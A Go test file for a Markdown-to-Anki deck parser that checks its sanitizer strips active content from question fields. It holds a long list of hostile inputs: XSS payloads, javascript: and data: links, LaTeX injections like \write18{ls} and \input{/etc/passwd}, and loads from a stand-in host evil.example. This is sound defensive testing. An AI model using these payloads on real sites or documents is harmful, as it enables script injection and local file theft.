package parse_test

import (
	"fmt"
	"io/fs"
	"maps"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"golang.org/x/net/html"

	"github.com/examdeck/examdeck/deck"
	"github.com/examdeck/examdeck/internal/markdown/sanitize"
	"github.com/examdeck/examdeck/internal/realnotes"
	"github.com/examdeck/examdeck/internal/texgate"
	"github.com/examdeck/examdeck/parse"
)

// harmless are the elements that a field may hold; none of them runs, loads or posts anything by itself but the picture.
var harmless = strings.Fields(`p br hr h1 h2 h3 h4 h5 h6 b i u s em strong small big del ins mark sub sup code pre kbd samp var tt q cite abbr
	dfn blockquote center div span a ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td details summary figure figcaption
	ruby rb rt rp section article aside header footer main nav address strike bdi bdo time wbr img input`)

// attributes are those that may stand on them.
var attributes = strings.Fields(`dir lang align class data-callout start type colspan rowspan open checked disabled src alt title width height href`)

// ankiActive is what Anki would act upon in the text of a field: sounds, answers to type, LaTeX, its own marks.
var ankiActive = regexp.MustCompile(`(?i)\[sound:([^\]]*)\]|\[\[type:|\[/?latex\]|\[/?\$\$?\]|\[anki:`)

// checkHarmless holds the fields of a question to what docs/security.md promises of them.
func checkHarmless(t *testing.T, q *deck.Question) {
	t.Helper()
	for _, fault := range activeIn(q) {
		t.Errorf("%s: %s", q.Pos, fault)
	}
}

// activeIn returns what is active in the fields of a question.
func activeIn(q *deck.Question) []string {
	var faults []string
	parts := []string{q.Prompt, q.Answer, q.Extra}
	for _, o := range q.Choices {
		parts = append(parts, o.HTML)
	}
	for _, part := range parts {
		for _, m := range ankiActive.FindAllStringSubmatch(part, -1) {
			if m[1] == "" || !slices.Contains(q.Media, html.UnescapeString(m[1])) {
				faults = append(faults, fmt.Sprintf("%q is active in %s", m[0], part))
			}
		}
		for _, m := range fieldFormula.FindAllStringSubmatch(fieldCode.ReplaceAllString(part, ""), -1) {
			if fault := texgate.Check(html.UnescapeString(strings.ReplaceAll(m[1]+m[2], "<!-- -->", ""))); fault != nil {
				faults = append(faults, fmt.Sprintf("the formula %q %s in %s", fault.Found, fault.Reason, part))
			}
		}
		tokens := html.NewTokenizer(strings.NewReader(part))
		for tokens.Next() != html.ErrorToken {
			if fault := activeToken(q, tokens.Token()); fault != "" {
				faults = append(faults, fault+" in "+part)
			}
		}
	}
	return faults
}

var (
	fieldFormula = regexp.MustCompile(`(?s)\\\((.*?)\\\)|\\\[(.*?)\\\]`)
	fieldCode    = regexp.MustCompile(`(?s)<(code|pre)\b.*?</(code|pre)>`)
	harmlessLink = regexp.MustCompile(`(?i)^(https?:|mailto:|obsidian://)`)
	remote       = regexp.MustCompile(`(?i)^https?://`)
)

func activeToken(q *deck.Question, token html.Token) string {
	if token.Type != html.StartTagToken && token.Type != html.SelfClosingTagToken {
		return ""
	}
	if !slices.Contains(harmless, token.Data) {
		return fmt.Sprintf("the element <%s>", token.Data)
	}
	for _, a := range token.Attr {
		switch {
		case !slices.Contains(attributes, a.Key):
			return fmt.Sprintf("the attribute %s on <%s>", a.Key, token.Data)
		case a.Key == "href" && !harmlessLink.MatchString(a.Val):
			return fmt.Sprintf("a link to %q", a.Val)
		case a.Key == "src" && !slices.Contains(q.Media, a.Val) && !remote.MatchString(a.Val):
			return fmt.Sprintf("the picture %q, which does not travel,", a.Val)
		case a.Key == "type" && token.Data == "input" && a.Val != "checkbox":
			return fmt.Sprintf("an input of type %q", a.Val)
		}
	}
	return ""
}

// TestNothingIsActive: whatever a note brings, no field holds anything that runs, loads or plays but its own media.
func TestNothingIsActive(t *testing.T) {
	for _, bad := range []string{"<script>", "<p onclick=x>", `<a href="javascript:x">`, `<img src="x.png">`, "[sound:x.mp3]", "[[type:x]]", "[latex]", `\(\href{javascript:x}{y}\)`} {
		if len(activeIn(&deck.Question{Extra: bad})) == 0 {
			t.Errorf("the test takes %q for harmless", bad)
		}
	}
	hostile := []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`, `<img src="pic.png" onload="alert(1)" style="position:fixed">`, `<img srcset="https://evil.example/p.png 2x">`,
		`<svg onload=alert(1)><script>1</script></svg>`, `<math><mtext><script>1</script></mtext></math>`,
		`<iframe src="https://evil.example"></iframe>`, `<object data="pic.png"></object>`, `<embed src="pic.png">`, `<frameset><frame src=x></frameset>`,
		`<link rel=stylesheet href=https://evil.example/x.css>`, `<style>@import "https://evil.example/x.css";</style>`, `<base href="https://evil.example/">`,
		`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<p style="background:url(https://evil.example)">x</p>`,
		`<form action="https://evil.example"><input name=q><button>x</button></form>`, `<input type=image src=https://evil.example/p.png>`,
		`<a href="javascript:alert(1)">x</a>`, "[x](javascript:alert(1))", "[x](JaVaScRiPt&#58;alert(1))", "[x](<java\tscript:alert(1)>)", "<javascript:alert(1)>",
		"[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "[x](vbscript:x)", "[x](file:///etc/passwd)",
		"![x](javascript:alert(1))", "![x](file:///etc/passwd.png)", "![x](//evil.example/../../x.png \"onerror=alert(1)\")",
		`![" onerror="alert(1)](pic.png)`, `![x](pic.png "\" onerror=\"alert(1)")`, "![[pic.png|\" onerror=\"alert(1)]]",
		"[sound:pic.png]", "[sound:../../x.mp3]", "[sou<b></b>nd:x.mp3]", "\\[sound:x.mp3]", "&#91;sound:x.mp3]", "[anki:play:q:0]", "`[sound:x.mp3]`",
		"[[type:Answer]]", "[[type:cloze:Text]]", "`[[type:Answer]]`", "[latex]\\input{/etc/passwd}[/latex]", "[$]\\write18{ls}[/$]", "[$$]x[/$$]", "`[latex]x[/latex]`",
		"<div id=answer></div>", "<div class=\"card nightMode\" data-x=\"1\">x</div>", "<a href=\"https://ok.example\" target=_blank onclick=x>ok</a>",
		"<audio src=\"a.mp3\" autoplay></audio>", "<video src=a.mp4 onplay=x></video>", "<template><script>1</script></template>", "<noscript><img src=x></noscript>",
		"<textarea><script>1</script></textarea>", "<title><img src=x onerror=1></title>", "<xmp><script>1</script></xmp>", "<plaintext><script>1</script>",
		"<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "$<script>alert(1)</script>$", "$$\\href{javascript:alert(1)}{x}$$",
		"$\\href{javascript:alert(1)}{x}$", "$\\mmlToken{mi}[href=\"javascript:alert(1)\"]{x}$", "$\\style{position:fixed;background:url(//evil.example)}{x}$",
		"$\\class{right}{x}$ $\\cssId{answer}{x}$", "$\\bbox[border:1px;position:fixed]{x}$", "$\\let\\x\\href$ $\\x{javascript:alert(1)}{y}$", "{{c1::a $\\style{a}{b}$ b}}",
		"$\\hr{{c1::ef}}{javascript:alert(1)}{x}$", "$\\hr\x01ef{javascript:alert(1)}{x}$", "$\\hr&#101;f{javascript:alert(1)}{x}$", "[$]\\style{a}{b}[/$] [latex]\\style{a}{b}[/latex]",
		"<p>$\\style{a}{b}$ \\(\\style{a}{b}\\) &#92;(\\style{a}{b}&#92;)</p>", "\\\\(\\style{a}{b}\\\\)", "\\begin{align}\\style{a}{b}\\end{align}", "```math\n\\style{a}{b}\n```",
		"```html\n<script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```", "```mermaid\nclick A \"javascript:alert(1)\"\n```",
		"| <script>1</script> |\n|---|\n| [sound:x.mp3] |", "[^1]\n\n[^1]: <script>1</script> [sound:x.mp3]",
	}
	files := fstest.MapFS{"pic.png": {Data: []byte("picture")}, "a.mp3": {Data: []byte("sound")}, "a.mp4": {Data: []byte("video")}}
	for _, h := range hostile {
		files["h.md"] = &fstest.MapFile{Data: []byte("#### Question 1\n\n> " + strings.ReplaceAll(h, "\n", "\n> ") + "\n\n" + h + "\n\n#### Question 2\n\n- [ ] a " +
			strings.ReplaceAll(h, "\n", "\n  ") + "\n- [x] b\n\n#### Question 3 " + strings.ReplaceAll(h, "\n", " ") + "\n\nLast.\n")}
		result := parse.Parse([]parse.Source{{Vault: &parse.Vault{FS: maps.Clone(files)}, Path: "h.md", Name: "h.md", Deck: "h"}}, parse.Options{Root: "h"})
		if result.Set.Len() == 0 {
			t.Errorf("%q: no question", h)
		}
		for _, d := range result.Set.Decks {
			for _, q := range d.Questions {
				checkHarmless(t, q)
			}
		}
	}
}

// TestOursStaysAsItIs: what is taken for harmless in a package comes out of it byte for byte, whatever our rendering
// wrote.
func TestOursStaysAsItIs(t *testing.T) {
	for name, vault := range map[string]fs.FS{"examples": os.DirFS("../examples"), "corpus": os.DirFS(realnotes.Dir(t, "corpus"))} {
		sources, err := parse.Dir(vault)
		if err != nil {
			t.Fatal(err)
		}
		questions := 0
		for _, source := range sources {
			set := parse.Parse([]parse.Source{source}, parse.Options{Root: "a"}).Set
			for _, d := range set.Decks {
				for _, q := range d.Questions {
					questions++
					checkUnchanged(t, q)
				}
			}
		}
		if questions < 10 {
			t.Errorf("%s: %d questions", name, questions)
		}
	}
}

func checkUnchanged(t *testing.T, q *deck.Question) {
	t.Helper()
	parts := []string{q.Prompt, q.Answer, q.Extra}
	for _, o := range q.Choices {
		parts = append(parts, o.HTML)
	}
	for _, part := range parts {
		if got := sanitize.Foreign(part, func(name string) bool { return slices.Contains(q.Media, name) }); got != part {
			t.Errorf("%s: %q became %q", q.Pos, part, got)
		}
	}
}
